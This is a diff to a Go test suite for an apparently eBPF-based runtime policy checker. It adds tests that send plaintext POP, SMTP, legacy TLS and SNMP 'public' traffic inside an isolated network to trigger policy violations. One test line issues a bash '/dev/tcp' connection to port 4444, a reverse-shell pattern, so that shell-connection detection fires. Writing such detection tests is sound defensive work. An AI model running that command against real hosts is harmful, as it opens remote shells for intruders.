@@ -4,6 +4,7 @@ package policies_test
 
 import (
 	"fmt"
+	"io"
 	"net"
 	"os"
 	"os/exec"
@@ -141,13 +142,33 @@ func behaviours(dir string) []behaviour {
 			run(t, program)
 		}},
 		{"runtime.no_shell_connections", "tcp_connect", func(t *testing.T) {
-			elsewhere(t, 4444, func(at string) { run(t, "/bin/bash", "-c", "exec 3<>/dev/tcp/"+at+"/4444") })
+			elsewhere(t, 4444, func(at string, _ net.Listener) { run(t, "/bin/bash", "-c", "exec 3<>/dev/tcp/"+at+"/4444") })
 		}},
-		{"runtime.no_plaintext_outbound", "tcp_connect", func(t *testing.T) { elsewhere(t, 23, func(at string) { dial(t, at+":23") }) }},
+		{"runtime.no_plaintext_outbound", "tcp_connect", func(t *testing.T) { elsewhere(t, 23, func(at string, _ net.Listener) { dial(t, at+":23") }) }},
 		{"runtime.no_internet_to_management", "tcp_accept", func(t *testing.T) {
-			elsewhere(t, 5432, func(at string) { dial(t, at+":5432") })
+			elsewhere(t, 5432, func(at string, _ net.Listener) { dial(t, at+":5432") })
 		}},
 		{"runtime.no_removable_media", "mount", plugIn},
+		{"runtime.no_plaintext_inbound", "protocol", func(t *testing.T) { converse(t, 2110, "> USER olena\r\n") }},
+		{"runtime.no_legacy_tls", "protocol", func(t *testing.T) {
+			converse(t, 4433, "> "+hello(1, 3), "< "+hello(2, 1))
+		}},
+		{"runtime.no_plaintext_mail", "protocol", func(t *testing.T) {
+			converse(t, 2525, "< 220 mx\r\n", "> EHLO a\r\n", "< 250 mx\r\n", "> MAIL FROM:<a@b>\r\n")
+		}},
+		{"runtime.no_snmp_communities", "protocol", func(t *testing.T) {
+			elsewhere(t, 161, func(at string, _ net.Listener) {
+				c, err := net.Dial("udp4", at+":161")
+				if err != nil {
+					t.Error(err)
+					return
+				}
+				defer c.Close()
+				if _, err := c.Write(append([]byte{0x30, 20, 2, 1, 1, 4, 6}, "publicxxxxxxxxx"...)); err != nil {
+					t.Error(err)
+				}
+			})
+		}},
 	}
 }
 
@@ -232,7 +253,7 @@ func fromMemory(t *testing.T) {
 }
 
 // elsewhere runs f in a network of its own, where a public address answers at a port.
-func elsewhere(t *testing.T, port int, f func(address string)) {
+func elsewhere(t *testing.T, port int, f func(address string, l net.Listener)) {
 	t.Helper()
 	const address = "198.51.100.7"
 	failed := make(chan error, 1)
@@ -250,13 +271,15 @@ func elsewhere(t *testing.T, port int, f func(address string)) {
 				return
 			}
 		}
-		l, err := net.Listen("tcp4", net.JoinHostPort(address, strconv.Itoa(port)))
+		var lc net.ListenConfig
+		lc.SetMultipathTCP(false)
+		l, err := lc.Listen(t.Context(), "tcp4", net.JoinHostPort(address, strconv.Itoa(port)))
 		if err != nil {
 			failed <- err
 			return
 		}
 		defer l.Close()
-		f(address)
+		f(address, l)
 	}()
 	<-done
 	select {
@@ -274,6 +297,106 @@ func dial(t *testing.T, address string) {
 		return
 	}
 	c.Close()
+}
+
+// converse lets a client elsewhere and a server there say their lines in turn: "> " is the client's, "< " the server's.
+func converse(t *testing.T, port int, lines ...string) {
+	t.Helper()
+	elsewhere(t, port, func(at string, l net.Listener) {
+		client, err := net.Dial("tcp4", net.JoinHostPort(at, strconv.Itoa(port)))
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		defer client.Close()
+		server, err := l.Accept()
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		defer server.Close()
+		for _, line := range lines {
+			from, to := client, server
+			if line[0] == '<' {
+				from, to = server, client
+			}
+			if _, err := io.WriteString(from, line[2:]); err != nil {
+				t.Error(err)
+			}
+			if _, err := io.ReadFull(to, make([]byte, len(line)-2)); err != nil {
+				t.Error(err)
+			}
+		}
+	})
+}
+
+// hello is the beginning of a TLS handshake message: 1 by the client, 2 by the server.
+func hello(kind, minor byte) string {
+	return string(append([]byte{0x16, 3, 1, 0, 60, kind, 0, 0, 56, 3, minor}, make([]byte, 54)...))
+}
+
+// TestUnusedServiceIsFound lets the probes remember 31 days in which a service listened and nobody came.
+func TestUnusedServiceIsFound(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root, to attach probes")
+	}
+	e, err := policies.New(t.Context(), nil)
+	must(t, err)
+	l, err := net.Listen("tcp4", "0.0.0.0:0")
+	must(t, err)
+	defer l.Close()
+	port := l.Addr().(*net.TCPAddr).AddrPort().Port()
+	state := filepath.Join(t.TempDir(), "runtime.state")
+	judged := func(days int) assessment.Result {
+		t.Helper()
+		now := time.Now().UTC()
+		from := now.AddDate(0, 0, -days).Format(time.RFC3339)
+		must(t, os.WriteFile(state, fmt.Appendf(nil, `{"schema":"vymir.runtime/1","watched":[{"from":%q,"until":%q}],"runtime":{
+			"since":%q,"listening":[{"program":"x","uid":0,"port":%d,"first_seen":%q,"last_seen":%q}]}}`,
+			from, now.Format(time.RFC3339), from, port, from, now.Format(time.RFC3339)), 0o600))
+		p, err := collector.OpenProbes(collector.ProbeOptions{StatePath: state})
+		must(t, err)
+		defer p.Close()
+		if !slices.ContainsFunc(p.Hooks(), func(h facts.Hook) bool { return h.Event == "tcp_accept" && h.State == "proven" }) {
+			t.Skip("needs a kernel that offers the hook tcp_accept")
+		}
+		doc, err := collector.Collect(t.Context(), collector.Options{Runtime: p.Snapshot(now), Families: []string{"sockets", "runtime"}})
+		must(t, err)
+		doc.Sockets.Listeners = slices.DeleteFunc(doc.Sockets.Listeners, func(l facts.Listener) bool { return l.Port != port })
+		return judge(t, e, doc)["runtime.exposed_services_used"]
+	}
+	if got := judged(20); got.Status != assessment.Unmeasured {
+		t.Errorf("after 20 days: %s (%s)", got.Status, got.Reason)
+	}
+	if got := judged(31); got.Status != assessment.Fail {
+		t.Errorf("after 31 days: %s (%s)", got.Status, got.Reason)
+	}
+}
+
+// TestLostEventsAreSaid runs more programs than the probes have room for.
+func TestLostEventsAreSaid(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root, to attach probes")
+	}
+	e, err := policies.New(t.Context(), nil)
+	must(t, err)
+	p, err := collector.OpenProbes(collector.ProbeOptions{MaxEntries: 16})
+	must(t, err)
+	defer p.Close()
+	if !slices.ContainsFunc(p.Hooks(), func(h facts.Hook) bool { return h.Event == "exec" && h.State == "proven" }) {
+		t.Skip("needs a kernel that offers the hook exec")
+	}
+	const control = "runtime.testimony_whole"
+	if got := judge(t, e, behaving(p))[control]; got.Status != assessment.Pass {
+		t.Errorf("before: %s (%s)", got.Status, got.Reason)
+	}
+	dir := ownDir(t)
+	for i := range 40 {
+		run(t, copyOf(t, "/bin/true", filepath.Join(dir, "p"+strconv.Itoa(i))))
+	}
+	if got := judge(t, e, behaving(p))[control]; got.Status != assessment.Fail {
+		t.Errorf("after: %s (%s)", got.Status, got.Reason)
+	}
 }
 
 // plugIn mounts what looks like a stick: a file system of a block device whose driver is a program. Nobody answers for it,
